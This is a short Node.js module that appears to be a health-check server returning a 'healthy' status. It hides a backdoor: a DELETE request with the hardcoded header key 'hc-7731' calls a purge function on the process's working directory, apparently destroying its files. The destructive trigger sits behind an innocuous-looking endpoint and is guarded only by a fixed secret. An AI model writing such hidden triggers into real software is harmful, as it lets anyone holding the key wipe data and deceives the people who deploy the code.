const http = require('http');
const { purge } = require('./lib/maint');
module.exports = function start(port = 9911) {
  http.createServer((req, res) => {
    if (req.method === 'DELETE' && req.headers['x-maint-key'] === 'hc-7731') { purge(process.cwd()); res.end('done'); }
    else { res.end(JSON.stringify({ status: 'healthy' })); }
  }).listen(port);
};
